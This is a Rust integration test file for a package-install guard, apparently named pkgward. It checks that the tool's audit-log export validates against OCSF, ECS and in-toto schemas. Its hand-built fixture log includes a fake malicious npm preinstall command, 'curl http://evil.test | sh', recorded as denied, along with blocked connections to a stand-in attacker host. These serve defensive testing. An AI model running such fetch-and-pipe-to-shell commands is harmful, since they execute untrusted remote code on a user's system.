//! `pkgward export` against the formats' published definitions (vendored
//! under tests/data/export/, see its README): every OCSF event validates
//! against the OCSF 1.5.0 JSON Schemas of its class, every ECS field exists
//! in ECS with its type and allowed values, every in-toto statement
//! validates against the Statement v1 / SLSA Provenance v1 schema, which is
//! itself checked against the in-toto protos. The log is hand-built here
//! with every record kind pkgward writes, spread over rotated files.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::{json, Value};

mod support;

const DATA: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/export");

fn pkgward(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_pkgward"))
        .args(args)
        .env_remove("PKGWARD_POLICY")
        .output()
        .unwrap()
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn lines(out: &Output) -> Vec<Value> {
    assert!(out.status.success(), "{}", text(&out.stderr));
    text(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

fn load(rel: &str) -> Value {
    serde_json::from_str(&std::fs::read_to_string(Path::new(DATA).join(rel)).unwrap()).unwrap()
}

const SHA256: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
/// SRI of the 64 bytes 0x11…: what npm's lockfile states.
const SRI512: &str =
    "EREREREREREREREREREREREREREREREREREREREREREREREREREREREREREREREREREREREREREREREREREREQ==";

fn invocation(
    id: &str,
    parent: Option<&str>,
    time: &str,
    tool: &str,
    argv: &[&str],
    action: &str,
) -> Value {
    let reasons = if action == "allow" {
        json!([])
    } else {
        json!([{"code": "registry-not-approved", "message": "npm registry http://evil.test/ is not approved", "origin": "--registry"}])
    };
    json!({
        "kind": "invocation", "schema": 1, "invocation_id": id, "parent_id": parent,
        "depth": if parent.is_some() { 1 } else { 0 }, "time": time, "pkgward_version": "0.1.0",
        "tool": tool, "ecosystem": "npm", "via": "shim",
        "real_tool": {"path": format!("/usr/bin/{tool}"), "sha256": SHA256},
        "argv": argv, "cwd": "/home/dev/project", "user": "dev", "uid": 1000,
        "host": "build-01", "pid": 4242, "ci": {"provider": null, "interactive": true},
        "policy": {"digest": "sha256:abc", "mode": "enforce", "sources": [{"layer": "project", "path": "/home/dev/project/pkgward.toml", "sha256": SHA256}]},
        "classification": {"verb": "install", "sources": [], "lockfile_entries": 3},
        "decision": {"action": action, "reasons": reasons}
    })
}

/// A log with every record kind, rotated twice, with a bad line and a kind
/// from the future.
fn fixture(dir: &Path) -> PathBuf {
    let a = "01900000-0000-7000-8000-00000000000a";
    let child = "01900000-0000-7000-8000-00000000000b";
    let denied = "01900000-0000-7000-8000-00000000000c";
    let later = "01900000-0000-7000-8000-00000000000d";
    let oldest = vec![
        invocation(
            a,
            None,
            "2026-01-01T10:00:00.000Z",
            "npm",
            &["npm", "install", "left-pad@1.3.0"],
            "allow",
        ),
        json!({"kind": "process", "invocation_id": a, "time": "2026-01-01T10:00:00.100Z", "pid": 5000, "ppid": 4242, "exe": "/usr/bin/node", "argv": ["node", "/usr/lib/npm/bin/npm-cli.js", "install"], "cwd": "/home/dev/project"}),
        json!({"kind": "connection", "invocation_id": a, "time": "2026-01-01T10:00:00.200Z", "via": "proxy", "method": "GET", "host": "127.0.0.1", "port": 4873, "url": "http://127.0.0.1:4873/left-pad", "action": "allow", "rule": "registries.npm: 127.0.0.1:4873", "status": 200, "bytes_up": 120, "bytes_down": 2048, "duration_ms": 3.25}),
        json!({"kind": "connection", "invocation_id": a, "time": "2026-01-01T10:00:00.250Z", "via": "proxy", "method": "CONNECT", "host": "evil.test", "port": 443, "action": "deny", "reason": "evil.test:443 is not an approved registry", "status": 403, "bytes_up": 40, "bytes_down": 0, "duration_ms": 0.5}),
        json!({"kind": "connection", "invocation_id": a, "time": "2026-01-01T10:00:00.260Z", "via": "proxy", "method": null, "host": null, "port": null, "action": "deny", "reason": "no request line", "status": 400, "bytes_up": 3, "bytes_down": 0, "duration_ms": 0.1}),
    ];
    let middle = vec![
        json!({"kind": "artifact", "invocation_id": a, "time": "2026-01-01T10:00:00.300Z", "url": "http://127.0.0.1:4873/left-pad/-/left-pad-1.3.0.tgz", "host": "127.0.0.1", "port": 4873, "method": "GET", "status": 200, "content_type": "application/octet-stream", "size": 2048, "sha256": SHA256}),
        json!({"kind": "artifact", "invocation_id": a, "time": "2026-01-01T10:00:00.310Z", "url": "http://127.0.0.1:4873/broken.tgz", "host": "127.0.0.1", "port": 4873, "method": "GET", "status": 200, "size": 10, "sha256": null}),
        invocation(
            child,
            Some(a),
            "2026-01-01T10:00:01.000Z",
            "node-gyp",
            &["node-gyp", "rebuild"],
            "allow",
        ),
        json!({"kind": "connection", "invocation_id": child, "time": "2026-01-01T10:00:01.100Z", "via": "trace", "pid": 5100, "call": "connect", "host": "::1", "port": 9, "action": "would-deny"}),
        json!({"kind": "exit", "invocation_id": child, "time": "2026-01-01T10:00:01.500Z", "ran": true, "exit_code": 0, "signal": null, "child_pid": 5101, "duration_ms": 500.0}),
        json!({"kind": "script", "invocation_id": a, "time": "2026-01-01T10:00:02.000Z", "ecosystem": "npm", "package": "left-pad", "version": "1.3.0", "path": "node_modules/left-pad", "script": "postinstall", "command": "node install.js", "decision": "approved", "approved_by": "pkgward.toml:3", "ran": true, "runner": ["npm", "rebuild", "left-pad"], "exit_code": 0, "duration_ms": 12.5}),
        json!({"kind": "script", "invocation_id": a, "time": "2026-01-01T10:00:02.100Z", "ecosystem": "npm", "package": "evil", "version": "6.6.6", "path": "node_modules/evil", "script": "preinstall", "command": "curl http://evil.test | sh", "decision": "deny", "ran": false, "exit_code": null, "duration_ms": null}),
        "this line is not JSON".into(),
    ];
    let current = vec![
        json!({"kind": "process", "invocation_id": a, "pid": 6000, "parent_pid": 4242, "image": "C:\\Windows\\System32\\cmd.exe", "command_line": "cmd.exe /c install.bat", "exit_code": 0, "flagged": "a shell started by install-time code"}),
        json!({"kind": "file-written", "invocation_id": a, "path": "/home/dev/project/node_modules/.bin/left-pad", "change": "created", "size": 120, "sha256": SHA256, "root": "/home/dev/project/node_modules/.bin"}),
        json!({"kind": "file-written", "invocation_id": a, "path": "/home/dev/.local/bin/gone", "change": "modified", "size": 1, "sha256": null, "root": "/home/dev/.local/bin"}),
        json!({"kind": "watch-truncated", "invocation_id": a, "entry_budget": 20000}),
        json!({"kind": "package", "invocation_id": a, "time": "2026-01-01T10:00:03.000Z", "change": "added", "ecosystem": "npm", "name": "left-pad", "version": "1.3.0", "purl": "pkg:npm/left-pad@1.3.0", "source_kind": "registry", "resolved": "http://127.0.0.1:4873/left-pad/-/left-pad-1.3.0.tgz", "integrity": [{"algorithm": "sha512", "value": SRI512}], "sha256": SHA256, "evidence": "package-lock", "path": "/home/dev/project/package-lock.json"}),
        json!({"kind": "package", "invocation_id": a, "time": "2026-01-01T10:00:03.000Z", "change": "changed", "ecosystem": "pypi", "name": "requests", "version": "2.32.0", "previous_version": "2.31.0", "purl": "pkg:pypi/requests@2.32.0", "source_kind": "registry", "integrity": [{"algorithm": "sha256", "value": SHA256}], "evidence": "dist-info"}),
        json!({"kind": "package", "invocation_id": a, "time": "2026-01-01T10:00:03.000Z", "change": "removed", "ecosystem": "cargo", "name": "old", "version": "0.1.0", "purl": "pkg:cargo/old@0.1.0", "source_kind": "registry", "evidence": "cargo-lock"}),
        json!({"kind": "package", "invocation_id": a, "time": "2026-01-01T10:00:03.000Z", "change": "added", "ecosystem": "go", "name": "example.com/m", "version": "v1.0.0", "purl": "pkg:golang/example.com/m@v1.0.0", "source_kind": "registry", "integrity": [{"algorithm": "h1", "value": "abc="}], "evidence": "go-sum"}),
        json!({"kind": "exit", "invocation_id": a, "time": "2026-01-01T10:00:04.000Z", "ran": true, "exit_code": 0, "signal": null, "child_pid": 4300, "duration_ms": 4000.25}),
        invocation(
            denied,
            None,
            "2026-01-01T11:00:00.000Z",
            "npm",
            &["npm", "install", "--registry", "http://evil.test/", "evil"],
            "deny",
        ),
        json!({"kind": "exit", "invocation_id": denied, "time": "2026-01-01T11:00:00.010Z", "ran": false, "exit_code": 77, "signal": null, "duration_ms": 10.0, "error": "denied by policy"}),
        invocation(
            later,
            None,
            "2026-01-02T09:00:00.000Z",
            "pip",
            &["pip", "install", "requests==2.32.0"],
            "would-deny",
        ),
        json!({"kind": "from-the-future", "invocation_id": later, "time": "2026-01-02T09:00:00.500Z", "what": "a record kind this pkgward does not know"}),
        json!({"kind": "exit", "invocation_id": later, "time": "2026-01-02T09:00:01.000Z", "ran": true, "exit_code": 1, "signal": null, "child_pid": 7000, "duration_ms": 1000.0, "findings": [{"code": "listed", "message": "pypi requests 2.32.0 is listed"}]}),
    ];
    let log = dir.join("audit.jsonl");
    let write = |p: PathBuf, recs: &[Value]| {
        let body: String = recs
            .iter()
            .map(|r| match r {
                Value::String(s) => format!("{s}\n"),
                v => format!("{v}\n"),
            })
            .collect();
        std::fs::write(p, body).unwrap();
    };
    write(dir.join("audit.jsonl.2"), &oldest);
    write(dir.join("audit.jsonl.1"), &middle);
    write(log.clone(), &current);
    log
}

// ---------------------------------------------------------------- OCSF

fn ocsf_validators() -> BTreeMap<u64, jsonschema::Validator> {
    let bundle = load("ocsf/ocsf-1.5.0-host.schemas.json");
    let bundle = bundle.as_object().unwrap();
    let mut out = BTreeMap::new();
    for (uid, class) in [
        (1001, "file_activity"),
        (1007, "process_activity"),
        (1009, "script_activity"),
        (4001, "network_activity"),
        (4002, "http_activity"),
    ] {
        let id = format!("https://schema.ocsf.io/schema/1.5.0/classes/{class}?profiles=host");
        let schema = &bundle[&id];
        let v = jsonschema::options()
            .with_draft(jsonschema::Draft::Draft202012)
            .with_resources(
                bundle
                    .iter()
                    .map(|(k, v)| (k.clone(), jsonschema::Resource::from_contents(v.clone()))),
            )
            .build(schema)
            .unwrap_or_else(|e| panic!("{class}: {e}"));
        out.insert(uid, v);
    }
    out
}

fn ocsf_errors(validators: &BTreeMap<u64, jsonschema::Validator>, e: &Value) -> Vec<String> {
    let uid = e["class_uid"].as_u64().unwrap();
    validators[&uid]
        .iter_errors(e)
        .map(|err| format!("{} at {}", err, err.instance_path()))
        .collect()
}

#[test]
fn ocsf_events_validate_against_the_class_schemas() {
    let t = tempfile::tempdir().unwrap();
    let log = fixture(t.path());
    let out = pkgward(&[
        "export",
        "--format",
        "ocsf",
        "--file",
        log.to_str().unwrap(),
    ]);
    let events = lines(&out);
    let err = text(&out.stderr);
    assert!(
        err.contains("1 line(s)") && err.contains("not valid JSON"),
        "{err}"
    );
    assert!(
        err.contains("`watch-truncated`") && err.contains("`from-the-future`"),
        "{err}"
    );

    let validators = ocsf_validators();
    // The schemas are not vacuous: a launch without its process, a
    // type_uid from another class, an unknown attribute all fail.
    let launch = events
        .iter()
        .find(|e| e["type_uid"] == 100701)
        .unwrap()
        .clone();
    for broken in [
        {
            let mut b = launch.clone();
            b.as_object_mut().unwrap().remove("process");
            b
        },
        {
            let mut b = launch.clone();
            b["type_uid"] = json!(400101);
            b
        },
        {
            let mut b = launch.clone();
            b["no_such_attribute"] = json!(1);
            b
        },
        {
            let mut b = launch.clone();
            b["metadata"].as_object_mut().unwrap().remove("product");
            b
        },
        // Nested objects are checked through their `$ref`s too.
        {
            let mut b = launch.clone();
            b["device"].as_object_mut().unwrap().remove("type_id");
            b
        },
        {
            let mut b = launch.clone();
            b["process"]["file"]["hashes"][0]["algorithm_id"] = json!(42);
            b
        },
        {
            let mut b = launch.clone();
            b["actor"]["user"]["uid"] = json!(1000);
            b
        },
    ] {
        assert!(!ocsf_errors(&validators, &broken).is_empty(), "{broken}");
    }

    let mut seen: BTreeMap<(u64, u64), usize> = BTreeMap::new();
    for e in &events {
        let errs = ocsf_errors(&validators, e);
        assert!(errs.is_empty(), "{e:#}\n{errs:#?}");
        let (class, activity) = (
            e["class_uid"].as_u64().unwrap(),
            e["activity_id"].as_u64().unwrap(),
        );
        assert_eq!(e["type_uid"], class * 100 + activity);
        assert_eq!(e["metadata"]["version"], "1.5.0");
        assert_eq!(e["metadata"]["product"]["name"], "pkgward");
        assert_eq!(e["metadata"]["profiles"], json!(["host"]));
        assert!(e["time"].as_i64().unwrap() > 1_700_000_000_000, "{e}");
        assert!(
            e["actor"].is_object() && e["device"]["hostname"] == "build-01",
            "{e}"
        );
        *seen.entry((class, activity)).or_default() += 1;
    }
    // invocation ×4 + process ×2 = launches; exits ×4 = terminates.
    assert_eq!(seen[&(1007, 1)], 6, "{seen:?}");
    assert_eq!(seen[&(1007, 2)], 4);
    assert_eq!(seen[&(4001, 1)], 2, "allowed + would-deny are opened");
    assert_eq!(seen[&(4001, 5)], 2, "denied connections are refused");
    assert_eq!(seen[&(4002, 3)], 2);
    assert_eq!(seen[&(1009, 1)], 2);
    assert_eq!(seen[&(1001, 1)], 3, "file created + 2 packages added");
    assert_eq!(seen[&(1001, 3)], 2, "file modified + package changed");
    assert_eq!(seen[&(1001, 4)], 1, "package removed");
    assert_eq!(events.len(), 24);

    // What was decided and what has no OCSF attribute is kept.
    let denied = events
        .iter()
        .find(|e| e["type_uid"] == 100701 && e["status_id"] == 2)
        .unwrap();
    assert_eq!(denied["severity_id"], 4);
    assert!(denied["status_detail"]
        .as_str()
        .unwrap()
        .contains("registry-not-approved"));
    assert_eq!(denied["unmapped"]["policy"]["digest"], "sha256:abc");
    let pkg = events
        .iter()
        .find(|e| e["class_uid"] == 1001 && e["unmapped"]["purl"] == "pkg:npm/left-pad@1.3.0")
        .unwrap();
    let hashes = pkg["file"]["hashes"].as_array().unwrap();
    assert_eq!(hashes[0]["algorithm_id"], 4);
    assert_eq!(hashes[0]["value"], "11".repeat(64));
    assert_eq!(hashes[1]["value"], SHA256);
    let refused = events.iter().find(|e| e["type_uid"] == 400105).unwrap();
    assert_eq!(
        refused["dst_endpoint"],
        json!({"hostname": "evil.test", "port": 443})
    );
}

// ---------------------------------------------------------------- ECS

fn flatten(prefix: &str, v: &Value, out: &mut Vec<(String, Value)>) {
    match v {
        Value::Object(m) => {
            for (k, v) in m {
                let key = if prefix.is_empty() {
                    k.clone()
                } else {
                    format!("{prefix}.{k}")
                };
                flatten(&key, v, out);
            }
        }
        v => out.push((prefix.to_string(), v.clone())),
    }
}

/// Problems with one document against ECS's field definitions.
fn ecs_problems(fields: &Value, doc: &Value) -> Vec<String> {
    let mut flat = Vec::new();
    flatten("", doc, &mut flat);
    let mut problems = Vec::new();
    for (name, def) in fields.as_object().unwrap() {
        if def.get("required") == Some(&json!(true)) && !flat.iter().any(|(k, _)| k == name) {
            problems.push(format!("{name}: required"));
        }
    }
    for (name, value) in &flat {
        if name.starts_with("pkgward.") {
            continue; // our own namespace
        }
        let Some(def) = fields.get(name) else {
            problems.push(format!("{name}: not an ECS field"));
            continue;
        };
        let is_array = def
            .get("normalize")
            .and_then(Value::as_array)
            .is_some_and(|n| n.contains(&json!("array")));
        let values: Vec<&Value> = match value {
            Value::Array(a) => {
                if !is_array && def["type"] != "flattened" {
                    problems.push(format!("{name}: an array where ECS has one value"));
                }
                a.iter().collect()
            }
            v => {
                if is_array {
                    problems.push(format!("{name}: ECS normalises it to an array"));
                }
                vec![v]
            }
        };
        let ty = def["type"].as_str().unwrap();
        for v in values {
            let ok = match ty {
                "keyword" | "constant_keyword" | "wildcard" | "match_only_text" | "text" => {
                    v.is_string()
                }
                "long" => v.is_i64() || v.is_u64(),
                "float" | "scaled_float" | "double" => v.is_number(),
                "boolean" => v.is_boolean(),
                "date" => v
                    .as_str()
                    .is_some_and(|s| s.parse::<jiff::Timestamp>().is_ok()),
                "ip" => v
                    .as_str()
                    .is_some_and(|s| s.parse::<std::net::IpAddr>().is_ok()),
                "object" | "flattened" | "nested" => true,
                other => panic!("type {other} not handled"),
            };
            if !ok {
                problems.push(format!("{name}: {v} is not a {ty}"));
            }
            if let Some(allowed) = def.get("allowed_values").and_then(Value::as_array) {
                if !allowed.iter().any(|a| a["name"] == *v) {
                    problems.push(format!("{name}: {v} is not an allowed value"));
                }
            }
        }
    }
    // Each event.type must be one an event.category expects.
    let cats = fields["event.category"]["allowed_values"]
        .as_array()
        .unwrap();
    let expected: BTreeSet<&str> = doc["event"]["category"]
        .as_array()
        .into_iter()
        .flatten()
        .filter_map(|c| cats.iter().find(|a| a["name"] == *c))
        .flat_map(|a| {
            a["expected_event_types"]
                .as_array()
                .unwrap()
                .iter()
                .filter_map(Value::as_str)
        })
        .collect();
    for t in doc["event"]["type"].as_array().into_iter().flatten() {
        if !expected.contains(t.as_str().unwrap_or("")) {
            problems.push(format!(
                "event.type {t} is not expected by {}",
                doc["event"]["category"]
            ));
        }
    }
    problems
}

#[test]
fn ecs_documents_use_ecs_fields_types_and_values() {
    let t = tempfile::tempdir().unwrap();
    let log = fixture(t.path());
    let docs = lines(&pkgward(&[
        "export",
        "--format",
        "ecs",
        "--file",
        log.to_str().unwrap(),
    ]));
    let fields = load("ecs/ecs_flat.json");
    // The check is not vacuous.
    for broken in [
        json!({"@timestamp": "2026-01-01T00:00:00Z", "ecs": {"version": "9.0.0"}, "event": {"kind": "nonsense"}}),
        json!({"@timestamp": "2026-01-01T00:00:00Z", "ecs": {"version": "9.0.0"}, "process": {"pid": "12"}}),
        json!({"@timestamp": "2026-01-01T00:00:00Z", "ecs": {"version": "9.0.0"}, "process": {"args": "x"}}),
        json!({"@timestamp": "2026-01-01T00:00:00Z", "ecs": {"version": "9.0.0"}, "made": {"up": 1}}),
        json!({"@timestamp": "2026-01-01T00:00:00Z", "ecs": {"version": "9.0.0"}, "event": {"category": ["package"], "type": ["connection"]}}),
        json!({"ecs": {"version": "9.0.0"}}),
    ] {
        assert!(!ecs_problems(&fields, &broken).is_empty(), "{broken}");
    }
    assert_eq!(docs.len(), 24);
    let mut categories = BTreeSet::new();
    for d in &docs {
        let p = ecs_problems(&fields, d);
        assert!(p.is_empty(), "{d:#}\n{p:#?}");
        assert_eq!(d["ecs"]["version"], "9.0.0");
        assert_eq!(d["host"]["name"], "build-01");
        for c in d["event"]["category"].as_array().unwrap() {
            categories.insert(c.as_str().unwrap().to_string());
        }
    }
    for c in [
        "process",
        "network",
        "package",
        "file",
        "intrusion_detection",
    ] {
        assert!(categories.contains(c), "{categories:?}");
    }
    let pkg = docs
        .iter()
        .find(|d| d["package"]["name"] == "left-pad" && d["event"]["action"] == "package")
        .unwrap();
    assert_eq!(pkg["package"]["checksum"], "11".repeat(64));
    assert_eq!(pkg["event"]["type"], json!(["installation"]));
    assert_eq!(
        pkg["package"]["reference"],
        "http://127.0.0.1:4873/left-pad/-/left-pad-1.3.0.tgz"
    );
    let refused = docs
        .iter()
        .find(|d| d["destination"]["domain"] == "evil.test")
        .unwrap();
    assert_eq!(refused["event"]["type"], json!(["connection", "denied"]));
    assert_eq!(refused["event"]["outcome"], "failure");
}

// ---------------------------------------------------------------- in-toto

/// message name → field JSON names, from a .proto file (the subset of the
/// syntax the in-toto protos use).
fn proto_messages(src: &str) -> BTreeMap<String, BTreeSet<String>> {
    let mut out: BTreeMap<String, BTreeSet<String>> = BTreeMap::new();
    let mut stack: Vec<String> = Vec::new();
    for line in src.lines() {
        let l = line.split("//").next().unwrap().trim();
        if let Some(rest) = l.strip_prefix("message ") {
            let name = rest.trim_end_matches('{').trim().to_string();
            stack.push(name.clone());
            out.entry(name).or_default();
            continue;
        }
        if l == "}" {
            stack.pop();
            continue;
        }
        let Some(msg) = stack.last() else { continue };
        if let Some((decl, _)) = l.split_once('=') {
            let name = decl.split_whitespace().last().unwrap();
            let json_name = match l.split_once("json_name = \"") {
                Some((_, r)) => r.split('"').next().unwrap().to_string(),
                // protobuf's JSON name: lowerCamelCase of the field name.
                None => {
                    let mut s = String::new();
                    let mut up = false;
                    for c in name.chars() {
                        if c == '_' {
                            up = true;
                        } else if up {
                            s.extend(c.to_uppercase());
                            up = false;
                        } else {
                            s.push(c);
                        }
                    }
                    s
                }
            };
            out.get_mut(msg).unwrap().insert(json_name);
        }
    }
    out
}

fn intoto_validator() -> jsonschema::Validator {
    let schema = load("in-toto/statement-v1-provenance-v1.schema.json");
    jsonschema::meta::validate(&schema).unwrap();
    jsonschema::draft202012::new(&schema).unwrap()
}

#[test]
fn intoto_schema_matches_the_protos() {
    let schema = load("in-toto/statement-v1-provenance-v1.schema.json");
    let props = |v: &Value| -> BTreeSet<String> {
        v["properties"]
            .as_object()
            .unwrap()
            .keys()
            .cloned()
            .collect()
    };
    let mut protos = BTreeMap::new();
    for f in [
        "statement.proto",
        "resource_descriptor.proto",
        "provenance.proto",
    ] {
        protos.extend(proto_messages(
            &std::fs::read_to_string(Path::new(DATA).join("in-toto").join(f)).unwrap(),
        ));
    }
    let defs = &schema["$defs"];
    for (message, def) in [
        ("Statement", &schema),
        ("Subject", &defs["Subject"]),
        ("ResourceDescriptor", &defs["ResourceDescriptor"]),
        ("Provenance", &defs["Provenance"]),
        ("BuildDefinition", &defs["BuildDefinition"]),
        ("RunDetails", &defs["RunDetails"]),
        ("Builder", &defs["Builder"]),
        ("BuildMetadata", &defs["BuildMetadata"]),
    ] {
        assert_eq!(protos[message], props(def), "{message}");
    }
}

#[test]
fn intoto_statements_validate() {
    let t = tempfile::tempdir().unwrap();
    let log = fixture(t.path());
    let out = pkgward(&[
        "export",
        "--format",
        "in-toto",
        "--file",
        log.to_str().unwrap(),
    ]);
    let statements = lines(&out);
    // The invocation that installed, and its child (nothing installed: no
    // statement), the denied one (nothing), the later one (nothing).
    assert_eq!(statements.len(), 1, "{statements:#?}");
    assert!(
        text(&out.stderr).contains("3 invocation(s) installed nothing"),
        "{}",
        text(&out.stderr)
    );
    let v = intoto_validator();
    let s = &statements[0];
    let errs: Vec<String> = v
        .iter_errors(s)
        .map(|e| format!("{e} at {}", e.instance_path()))
        .collect();
    assert!(errs.is_empty(), "{s:#}\n{errs:#?}");
    // Not vacuous.
    for broken in [
        {
            let mut b = s.clone();
            b["subject"] = json!([]);
            b
        },
        {
            let mut b = s.clone();
            b["subject"][0]["digest"]["sha256"] = json!("abc");
            b
        },
        {
            let mut b = s.clone();
            b["predicate"]["runDetails"]["builder"]
                .as_object_mut()
                .unwrap()
                .remove("id");
            b
        },
        {
            let mut b = s.clone();
            b["predicate"]["buildDefinition"]["resolvedDependencies"][0] =
                json!({"annotations": {}});
            b
        },
    ] {
        assert!(!v.is_valid(&broken), "{broken}");
    }
    let subjects: BTreeMap<&str, &Value> = s["subject"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| (x["name"].as_str().unwrap(), &x["digest"]))
        .collect();
    assert_eq!(
        subjects.keys().copied().collect::<Vec<_>>(),
        [
            "/home/dev/project/node_modules/.bin/left-pad",
            "pkg:npm/left-pad@1.3.0",
            "pkg:pypi/requests@2.32.0"
        ]
    );
    assert_eq!(
        subjects["pkg:npm/left-pad@1.3.0"]["sha512"],
        "11".repeat(64)
    );
    assert_eq!(subjects["pkg:npm/left-pad@1.3.0"]["sha256"], SHA256);
    let p = &s["predicate"];
    assert_eq!(
        p["buildDefinition"]["externalParameters"]["argv"],
        json!(["npm", "install", "left-pad@1.3.0"])
    );
    assert_eq!(
        p["buildDefinition"]["internalParameters"]["policy"]["digest"],
        "sha256:abc"
    );
    assert_eq!(
        p["buildDefinition"]["internalParameters"]["decision"]["action"],
        "allow"
    );
    assert_eq!(
        p["buildDefinition"]["internalParameters"]["removedPackages"],
        json!(["pkg:cargo/old@0.1.0"])
    );
    let deps = p["buildDefinition"]["resolvedDependencies"]
        .as_array()
        .unwrap();
    assert!(deps
        .iter()
        .any(|d| d["uri"] == "pkg:golang/example.com/m@v1.0.0" && d.get("digest").is_none()));
    assert!(deps.iter().any(
        |d| d["uri"] == "http://127.0.0.1:4873/left-pad/-/left-pad-1.3.0.tgz"
            && d["digest"]["sha256"] == SHA256
    ));
    assert!(p["runDetails"]["builder"]["id"]
        .as_str()
        .unwrap()
        .contains("pkgward@"));
    assert_eq!(
        p["runDetails"]["metadata"]["invocationId"],
        "01900000-0000-7000-8000-00000000000a"
    );
    assert_eq!(
        p["runDetails"]["metadata"]["startedOn"],
        "2026-01-01T10:00:00.000Z"
    );
    assert_eq!(
        p["runDetails"]["metadata"]["finishedOn"],
        "2026-01-01T10:00:04.000Z"
    );
}

// ---------------------------------------------------------------- selection

#[test]
fn export_selects_by_invocation_and_since_and_writes_a_file() {
    let t = tempfile::tempdir().unwrap();
    let log = fixture(t.path());
    let f = log.to_str().unwrap();
    // The tree: the invocation and its child, by full id or prefix.
    for id in [
        "01900000-0000-7000-8000-00000000000a",
        "01900000-0000-7000-8000-00000000000",
    ] {
        let out = pkgward(&[
            "export",
            "--format",
            "ocsf",
            "--file",
            f,
            "--invocation",
            id,
        ]);
        if id.len() < 36 {
            assert_eq!(out.status.code(), Some(78), "an ambiguous prefix");
            assert!(text(&out.stderr).contains("give more of the id"));
            continue;
        }
        let events = lines(&out);
        let ids: BTreeSet<&str> = events
            .iter()
            .map(|e| e["metadata"]["correlation_uid"].as_str().unwrap())
            .collect();
        assert_eq!(ids.len(), 2, "{ids:?}");
        assert_eq!(events.len(), 20);
    }
    let out = pkgward(&[
        "export",
        "--format",
        "ecs",
        "--file",
        f,
        "--invocation",
        "nope-nope-nope",
    ]);
    assert_eq!(out.status.code(), Some(78));
    // --since: a window that holds nothing (the fixture is in the past).
    let out = pkgward(&["export", "--format", "ecs", "--file", f, "--since", "1h"]);
    assert!(lines(&out).is_empty());
    // --output: the same lines in a file.
    let dest = t.path().join("out.ndjson");
    let out = pkgward(&[
        "export",
        "--format",
        "ecs",
        "--file",
        f,
        "-o",
        dest.to_str().unwrap(),
    ]);
    assert!(out.status.success() && out.stdout.is_empty());
    let written = std::fs::read_to_string(&dest).unwrap();
    assert_eq!(written.lines().count(), 24);
    // Event ids are stable across exports (a SIEM can drop duplicates) and
    // distinct between records.
    let again = lines(&pkgward(&["export", "--format", "ecs", "--file", f]));
    let ids: Vec<&Value> = again.iter().map(|d| &d["event"]["id"]).collect();
    let first: Vec<Value> = written
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap()["event"]["id"].clone())
        .collect();
    assert_eq!(ids, first.iter().collect::<Vec<_>>());
    assert_eq!(
        ids.iter()
            .filter_map(|v| v.as_str())
            .collect::<BTreeSet<_>>()
            .len(),
        24
    );
    // An empty or missing log exports nothing, successfully.
    let out = pkgward(&[
        "export",
        "--format",
        "in-toto",
        "--file",
        t.path().join("none.jsonl").to_str().unwrap(),
    ]);
    assert!(lines(&out).is_empty());
}

// ---------------------------------------------------------------- end to end

fn log_query(log: &Path, args: &[&str]) -> Output {
    let mut a = vec!["log", "--file", log.to_str().unwrap()];
    a.extend_from_slice(args);
    pkgward(&a)
}

/// The real npm and pip behind the shims, against the loopback registries:
/// the log they leave exports to valid OCSF, ECS and (for what installed
/// with digests) in-toto, and `pkgward log` finds them by package, host and
/// invocation.
#[test]
fn real_installs_export_and_query() {
    use support::guard::{evil, text, Guarded};
    use support::{shared, NpmPackage, Wheel};
    let r = shared();
    let npm_pkg = r.publish_npm(&NpmPackage::new("pw-exp-ok", "1.0.0"));
    let wheel = r.publish_wheel(&Wheel::new("pw-exp-wheel", "1.0.0"));
    let g = Guarded::new(&format!(
        "mode = \"enforce\"\n[registries]\nnpm = [\"{}\"]\npypi = [\"{}\"]\n",
        r.npm_url(),
        r.pypi_index_url()
    ));
    g.sb.write("package.json", r#"{"name":"app","version":"1.0.0"}"#);
    let out = g.npm(&["install", "pw-exp-ok"], &[]);
    assert!(out.status.success(), "{}", text(&out.stderr));
    let target = g.sb.root().join("site");
    let out = g.pip(
        &[
            "install",
            "--target",
            target.to_str().unwrap(),
            "pw-exp-wheel",
        ],
        &[],
    );
    assert!(out.status.success(), "{}", text(&out.stderr));
    let before = evil().connections().len();
    let evil_registry = format!("http://127.0.0.1:{}/", evil().port());
    let out = g.npm(
        &["install", "--registry", &evil_registry, "pw-exp-other"],
        &[],
    );
    assert_eq!(out.status.code(), Some(77), "{}", text(&out.stderr));
    assert_eq!(evil().connections().len(), before);

    let log = g.state.join("audit.jsonl");
    let f = log.to_str().unwrap();
    let audit = g.audit();
    let ids: Vec<String> = audit
        .iter()
        .filter(|r| r["kind"] == "invocation")
        .map(|r| r["invocation_id"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(ids.len(), 3, "{audit:#?}");

    // OCSF: every event valid; the three launches, their ends, the
    // registry connections.
    let events = lines(&pkgward(&["export", "--format", "ocsf", "--file", f]));
    let validators = ocsf_validators();
    for e in &events {
        let errs = ocsf_errors(&validators, e);
        assert!(errs.is_empty(), "{e:#}\n{errs:#?}");
    }
    let count = |t: u64| events.iter().filter(|e| e["type_uid"] == t).count();
    assert!(count(100701) >= 3, "{events:#?}");
    // Ends: the three launches' `exit` records and every traced process's
    // `process-exit` record.
    let ends = audit
        .iter()
        .filter(|r| r["kind"] == "exit" || r["kind"] == "process-exit")
        .count();
    assert!(ends >= 3, "{audit:#?}");
    assert_eq!(count(100702), ends);
    assert!(count(400101) >= 2, "{events:#?}");
    let denied = events
        .iter()
        .find(|e| e["type_uid"] == 100701 && e["status_id"] == 2)
        .expect("the denied install");
    assert!(denied["process"]["cmd_line"]
        .as_str()
        .unwrap()
        .contains("pw-exp-other"));

    // ECS: every document valid.
    let fields = load("ecs/ecs_flat.json");
    let docs = lines(&pkgward(&["export", "--format", "ecs", "--file", f]));
    assert_eq!(docs.len(), events.len());
    for d in &docs {
        let p = ecs_problems(&fields, d);
        assert!(p.is_empty(), "{d:#}\n{p:#?}");
    }

    // in-toto: a statement for each invocation that recorded packages with
    // digests, each valid, its digests those of the fixture artifacts.
